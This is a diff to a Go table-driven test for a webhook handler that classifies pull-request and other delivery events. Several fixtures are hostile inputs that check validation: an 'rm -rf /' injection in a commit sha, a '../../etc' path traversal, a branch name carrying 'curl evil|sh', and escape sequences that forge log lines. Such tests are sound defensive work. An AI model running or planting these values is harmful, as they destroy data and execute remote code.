@@ -168,70 +168,70 @@ func TestActionTable(t *testing.T) {
 	job := want{202, validation.DeliveryQueued, true, 1, ""}
 	ignored := want{202, validation.DeliveryIgnored, false, 0, "not acted on"}
 	tests := []struct {
-		name   string
-		event  string
-		body   func(t *testing.T) []byte
-		drafts bool
-		want   want
+		name  string
+		event string
+		body  func(t *testing.T) []byte
+		app   int64 // Config.AppID
+		want  want
 	}{
-		{"opened", "pull_request", file("pull_request", "opened"), false, job},
-		{"opened with organization", "pull_request", file("pull_request", "opened.with-organization"), false, job},
-		{"synchronize", "pull_request", file("pull_request", "synchronize"), false, job},
-		{"reopened", "pull_request", file("pull_request", "reopened"), false, job},
-		{"ready_for_review with installation", "pull_request", file("pull_request", "ready_for_review.with-installation"), false, job},
-		{"ready_for_review without installation", "pull_request", file("pull_request", "ready_for_review"), false,
+		{"opened", "pull_request", file("pull_request", "opened"), 0, job},
+		{"opened with organization", "pull_request", file("pull_request", "opened.with-organization"), 0, job},
+		{"synchronize", "pull_request", file("pull_request", "synchronize"), 0, job},
+		{"reopened", "pull_request", file("pull_request", "reopened"), 0, job},
+		{"ready_for_review with installation", "pull_request", file("pull_request", "ready_for_review.with-installation"), 0, job},
+		{"ready_for_review without installation", "pull_request", file("pull_request", "ready_for_review"), 0,
 			want{202, validation.DeliveryQueued, true, 0, string(validation.CodeInstallationMissing)}},
-		{"assigned", "pull_request", file("pull_request", "assigned"), false, ignored},
-		{"closed cancels the PR's jobs", "pull_request", file("pull_request", "closed"), false,
+		{"assigned", "pull_request", file("pull_request", "assigned"), 0, ignored},
+		{"closed cancels the PR's jobs", "pull_request", file("pull_request", "closed"), 0,
 			want{202, validation.DeliveryRecorded, false, 0, "pull request closed"}},
-		{"labeled", "pull_request", file("pull_request", "labeled"), false, ignored},
-		{"unlabeled", "pull_request", file("pull_request", "unlabeled"), false, ignored},
-		{"locked", "pull_request", file("pull_request", "locked"), false, ignored},
-		{"unlocked", "pull_request", file("pull_request", "unlocked"), false, ignored},
-		{"review_requested", "pull_request", file("pull_request", "review_requested"), false, ignored},
-		{"converted_to_draft", "pull_request", file("pull_request", "converted_to_draft.with-installation"), false, ignored},
-		{"unknown future action", "pull_request", edited("opened", func(m map[string]any) { m["action"] = "teleported" }), false, ignored},
+		{"labeled", "pull_request", file("pull_request", "labeled"), 0, job},
+		{"labeled with organization", "pull_request", file("pull_request", "labeled.with-organization"), 0, job},
+		{"unlabeled", "pull_request", file("pull_request", "unlabeled"), 0, job},
+		{"locked", "pull_request", file("pull_request", "locked"), 0, ignored},
+		{"unlocked", "pull_request", file("pull_request", "unlocked"), 0, ignored},
+		{"review_requested", "pull_request", file("pull_request", "review_requested"), 0, ignored},
+		{"converted_to_draft", "pull_request", file("pull_request", "converted_to_draft.with-installation"), 0, ignored},
+		{"unknown future action", "pull_request", edited("opened", func(m map[string]any) { m["action"] = "teleported" }), 0, ignored},
 		{"edited title only", "pull_request", edited("opened", func(m map[string]any) {
 			m["action"] = "edited"
 			m["changes"] = map[string]any{"title": map[string]any{"from": "old"}}
-		}), false, want{202, validation.DeliveryIgnored, false, 0, "without a base branch change"}},
+		}), 0, want{202, validation.DeliveryIgnored, false, 0, "without a base branch change"}},
 		{"edited base", "pull_request", edited("opened", func(m map[string]any) {
 			m["action"] = "edited"
 			m["changes"] = map[string]any{"base": map[string]any{"ref": map[string]any{"from": "main"}, "sha": map[string]any{"from": strings.Repeat("a", 40)}}}
-		}), false, job},
-		{"draft skipped", "pull_request", edited("opened", func(m map[string]any) { pr(m)["draft"] = true }), false,
-			want{202, validation.DeliverySkipped, false, 0, "draft"}},
-		{"draft reviewed when configured", "pull_request", edited("opened", func(m map[string]any) { pr(m)["draft"] = true }), true, job},
-		{"head repo deleted", "pull_request", edited("opened", func(m map[string]any) { pr(m)["head"].(map[string]any)["repo"] = nil }), false,
+		}), 0, job},
+		{"draft queued: the pipeline reads review.drafts", "pull_request", edited("opened", func(m map[string]any) { pr(m)["draft"] = true }), 0, job},
+		{"head repo deleted", "pull_request", edited("opened", func(m map[string]any) { pr(m)["head"].(map[string]any)["repo"] = nil }), 0,
 			want{202, validation.DeliverySkipped, false, 0, "head repository missing"}},
-		{"malformed head sha", "pull_request", edited("opened", func(m map[string]any) { pr(m)["head"].(map[string]any)["sha"] = "HEAD; rm -rf /" }), false,
+		{"malformed head sha", "pull_request", edited("opened", func(m map[string]any) { pr(m)["head"].(map[string]any)["sha"] = "HEAD; rm -rf /" }), 0,
 			want{400, validation.DeliveryInvalid, false, 0, "head sha"}},
 		{"malformed repo name", "pull_request", edited("opened", func(m map[string]any) {
 			m["repository"].(map[string]any)["full_name"] = "../../etc"
-		}), false, want{400, validation.DeliveryInvalid, false, 0, "full_name"}},
+		}), 0, want{400, validation.DeliveryInvalid, false, 0, "full_name"}},
 		{"branch name with shell and escapes is only stored", "pull_request", edited("opened", func(m map[string]any) {
 			pr(m)["head"].(map[string]any)["ref"] = "main$(curl evil|sh)"
 			pr(m)["title"] = "x\n\x1b[31mFAKE LOG LINE\u202e"
-		}), false, job},
-		{"not JSON", "pull_request", func(t *testing.T) []byte { return []byte(`{"action": "opened",`) }, false,
+		}), 0, job},
+		{"not JSON", "pull_request", func(t *testing.T) []byte { return []byte(`{"action": "opened",`) }, 0,
 			want{400, validation.DeliveryInvalid, false, 0, "payload"}},
-		{"ping", "ping", file("ping", "payload"), false, want{200, validation.DeliveryRecorded, false, 0, "ping"}},
-		{"ping that is not JSON is still answered", "ping", func(t *testing.T) []byte { return []byte(`zen`) }, false,
+		{"ping", "ping", file("ping", "payload"), 0, want{200, validation.DeliveryRecorded, false, 0, "ping"}},
+		{"ping that is not JSON is still answered", "ping", func(t *testing.T) []byte { return []byte(`zen`) }, 0,
 			want{200, validation.DeliveryRecorded, false, 0, "ping"}},
-		{"ignored event with odd fields", "workflow_job", func(t *testing.T) []byte { return []byte(`{"action":{"x":1}}`) }, false,
+		{"ignored event with odd fields", "workflow_job", func(t *testing.T) []byte { return []byte(`{"action":{"x":1}}`) }, 0,
 			want{202, validation.DeliveryIgnored, false, 0, "workflow_job"}},
-		{"installation event that is not JSON", "installation", func(t *testing.T) []byte { return []byte(`{`) }, false,
+		{"installation event that is not JSON", "installation", func(t *testing.T) []byte { return []byte(`{`) }, 0,
 			want{400, validation.DeliveryInvalid, false, 0, "payload"}},
-		{"ping with organization", "ping", file("ping", "with-organization"), false, want{200, validation.DeliveryRecorded, false, 0, "ping"}},
-		{"installation created", "installation", file("installation", "created"), false, want{202, validation.DeliveryRecorded, false, 0, "created"}},
-		{"check_suite rerequested", "check_suite", file("check_suite", "rerequested"), false, want{202, validation.DeliveryIgnored, false, 0, "check_suite"}},
-		{"push", "push", file("push", "payload"), false, want{202, validation.DeliveryIgnored, false, 0, "push"}},
-		{"issue_comment", "issue_comment", file("issue_comment", "created"), false, want{202, validation.DeliveryIgnored, false, 0, "issue_comment"}},
-		{"pull_request_review", "pull_request_review", file("pull_request_review", "submitted"), false, want{202, validation.DeliveryIgnored, false, 0, ""}},
+		{"ping with organization", "ping", file("ping", "with-organization"), 0, want{200, validation.DeliveryRecorded, false, 0, "ping"}},
+		{"installation created", "installation", file("installation", "created"), 0, want{202, validation.DeliveryRecorded, false, 0, "created"}},
+		{"check_suite rerequested, App id not configured", "check_suite", file("check_suite", "rerequested"), 0,
+			want{202, validation.DeliveryIgnored, false, 0, "App id is not configured"}},
+		{"push", "push", file("push", "payload"), 0, want{202, validation.DeliveryIgnored, false, 0, "push"}},
+		{"issue_comment", "issue_comment", file("issue_comment", "created"), 0, want{202, validation.DeliveryIgnored, false, 0, "issue_comment"}},
+		{"pull_request_review", "pull_request_review", file("pull_request_review", "submitted"), 0, want{202, validation.DeliveryIgnored, false, 0, ""}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			e := newEnv(t, webhook.Config{ReviewDrafts: tt.drafts}, store.Options{})
+			e := newEnv(t, webhook.Config{AppID: tt.app}, store.Options{})
 			body := tt.body(t)
 			id := e.nextID()
 			a := e.send(t, tt.event, id, body, nil)
